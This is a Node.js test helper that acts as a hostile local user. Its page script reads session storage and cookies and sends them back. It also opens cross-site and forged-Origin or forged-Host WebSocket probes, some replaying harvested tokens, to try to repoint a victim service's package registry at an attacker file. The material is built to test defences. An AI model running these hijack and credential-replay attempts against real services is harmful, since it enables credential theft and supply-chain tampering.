// Another local user's server, for security tests (run it as `nobody`): serves a page on a port of
// 127.0.0.1 the kernel picks, prints every request it receives (line and headers) as a JSON line,
// and the page tries the victim's web host from the browser. On a "probe" line on stdin it tries
// the victim's WebSocket itself, with every credential it has seen (cookies, tokens), as a
// non-browser client can: no Origin, a forged Origin, a foreign Host. If one opens, it asks to
// change the registry path to its own file. Prints {"probes": {...}} with each outcome.
import { createServer } from 'node:http';
import { createInterface } from 'node:readline';
import WebSocket from '../../node_modules/ws/wrapper.mjs';

const [victimPort, evilRegistry] = process.argv.slice(2);
const seen = [];
const page = `<!doctype html><title>attacker</title><script>
const report = (what) => fetch('/report?' + encodeURIComponent(what));
report('storage ' + JSON.stringify({ ...sessionStorage }) + ' cookies ' + document.cookie);
const ws = new WebSocket('ws://127.0.0.1:${victimPort}/api', ['provisioning.v1']);
ws.onopen = () => { report('ws-open'); ws.send(JSON.stringify({ id: 1, method: 'updateSettings', params: { registryPath: ${JSON.stringify(evilRegistry)} } })); };
ws.onmessage = (m) => report('ws-answer ' + m.data);
ws.onerror = () => report('ws-refused');
new Image().src = 'http://127.0.0.1:${victimPort}/?from=attacker';
</script>`;

const server = createServer((request, response) => {
  seen.push(request.headers);
  console.log(JSON.stringify({ url: request.url, headers: request.headers }));
  if (!request.url.startsWith('/report')) response.writeHead(200, { 'content-type': 'text/html' }).end(page);
  else response.writeHead(204).end();
});
server.listen(0, '127.0.0.1', () => console.log(JSON.stringify({ port: server.address().port })));

function attempt(label, headers, protocols = ['provisioning.v1']) {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${victimPort}/api`, protocols, { headers });
    ws.once('unexpected-response', (_request, response) => resolve([label, response.statusCode]));
    ws.once('error', (error) => resolve([label, `error ${error.message}`]));
    ws.once('open', () => {
      ws.send(JSON.stringify({ id: 1, method: 'updateSettings', params: { registryPath: evilRegistry } }));
      ws.once('message', (data) => {
        ws.close();
        resolve([label, `open: ${data}`]);
      });
    });
  });
}

createInterface({ input: process.stdin }).on('line', async () => {
  const cookies = seen.map((headers) => headers.cookie).filter(Boolean);
  const cookie = cookies.join('; ');
  const tokens = [...new Set(cookies.flatMap((line) => [...line.matchAll(/=([A-Za-z0-9_-]{16,})/g)].map((match) => match[1])))];
  const offered = ['provisioning.v1', ...tokens.map((token) => `token.${token}`)];
  const victim = `http://127.0.0.1:${victimPort}`;
  const probes = await Promise.all([
    attempt('no origin', cookie ? { cookie } : {}, offered),
    attempt('forged origin, no token', { origin: victim, ...(cookie ? { cookie } : {}) }),
    attempt('forged origin, guessed token', { origin: victim }, ['provisioning.v1', `token.${'A'.repeat(32)}`]),
    attempt('foreign origin', { origin: `http://127.0.0.1:${server.address().port}`, ...(cookie ? { cookie } : {}) }, offered),
    attempt('foreign host', { host: `attacker.example:${victimPort}`, origin: `http://attacker.example:${victimPort}` }, offered),
  ]);
  console.log(JSON.stringify({ probes: Object.fromEntries(probes) }));
});
